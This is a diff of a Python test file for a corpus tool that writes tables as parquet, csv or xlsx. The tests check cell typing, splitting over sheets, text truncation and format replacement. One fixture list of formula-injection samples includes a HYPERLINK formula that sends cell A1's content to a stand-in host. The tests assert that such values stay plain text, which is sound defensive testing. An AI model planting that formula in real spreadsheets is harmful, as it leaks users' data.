@@ -51,8 +51,68 @@ def test_missing_table_says_what_to_do(tmp_path):
 
 
 def test_unknown_format_is_refused(tmp_path):
-    with pytest.raises(ValueError, match="xlsx"):
-        write_table(pd.DataFrame(), tmp_path, "documents", fmt="xlsx")
+    with pytest.raises(ValueError, match="parquet, csv, xlsx"):
+        write_table(pd.DataFrame(), tmp_path, "documents", fmt="ods")
+
+
+# what a page may hold, and a spreadsheet would run as a formula if it were not a text cell
+FORMULA_LIKE = ['=HYPERLINK("http://exemple.invalid/?d="&A1;"clic")', "=1+1", "@marie",
+                "+33 6 12 34 56 78", "-", "- une liste"]
+
+
+def test_xlsx_texts_stay_texts_and_values_keep_their_types(tmp_path):
+    from openpyxl import load_workbook
+
+    table = pd.DataFrame({
+        "text": [*FORMULA_LIKE, "Témoignage\u202f: l’équipe\x0bsaut de page"],
+        "count": range(7),
+        "published": pd.to_datetime(["2014-03-01"] * 6 + [None]),
+        "categories": [["Témoignages", "École"]] + [[]] * 6,
+    })
+    write_table(table, tmp_path, "documents", fmt="xlsx")
+    sheet = load_workbook(tmp_path / "documents.xlsx")["documents"]
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    typed = [*FORMULA_LIKE, "Témoignage\u202f: l’équipe saut de page"]  # no control in XML
+    assert [cell.value for cell in cells] == typed
+    assert {cell.data_type for cell in cells} == {"s"}  # no formula among them
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:D8"
+    back = read_table(tmp_path, "documents")
+    assert back["text"].tolist() == typed
+    assert back["count"].tolist() == list(range(7))
+    assert back["published"].iloc[0] == pd.Timestamp("2014-03-01")
+    assert back["published"].isna().iloc[-1]
+    assert back["categories"].iloc[0] == "Témoignages | École"
+
+
+def test_xlsx_table_longer_than_a_sheet_goes_on_in_the_next(tmp_path, monkeypatch):
+    from openpyxl import load_workbook
+
+    from corpus_tools.store import TableWriter
+
+    monkeypatch.setattr("corpus_tools.store.XLSX_MAX_ROWS", 3)  # a header and two rows
+    writer = TableWriter(tmp_path, "tokens", fmt="xlsx")
+    for part in (["a", "b", "c"], ["d", "e"]):
+        writer.write(pd.DataFrame({"token": part}))
+    writer.commit()
+    assert load_workbook(tmp_path / "tokens.xlsx").sheetnames == [
+        "tokens", "tokens (2)", "tokens (3)"]
+    assert read_table(tmp_path, "tokens")["token"].tolist() == ["a", "b", "c", "d", "e"]
+
+
+def test_xlsx_cuts_a_text_longer_than_a_cell_and_says_so(tmp_path, monkeypatch, caplog):
+    monkeypatch.setattr("corpus_tools.store.XLSX_MAX_CHARS", 5)
+    write_table(pd.DataFrame({"text": ["court", "bien trop long"]}), tmp_path, "texts",
+                fmt="xlsx")
+    assert read_table(tmp_path, "texts")["text"].tolist() == ["court", "bien "]
+    assert "texts : 1 texte(s) coupé(s) à 5 caractères" in caplog.text
+
+
+@pytest.mark.parametrize("old, new", [("parquet", "csv"), ("csv", "xlsx"), ("xlsx", "parquet")])
+def test_a_table_written_in_another_format_replaces_the_earlier_one(tmp_path, old, new):
+    write_table(pd.DataFrame({"doc_id": ["earlier"]}), tmp_path, "documents", fmt=old)
+    write_table(pd.DataFrame({"doc_id": ["later"]}), tmp_path, "documents", fmt=new)
+    assert [p.name for p in tmp_path.iterdir()] == [f"documents.{new}"]
+    assert read_table(tmp_path, "documents")["doc_id"].tolist() == ["later"]
 
 
 def test_parse_cache_compaction_keeps_live_texts_and_bounds_the_parts(tmp_path):
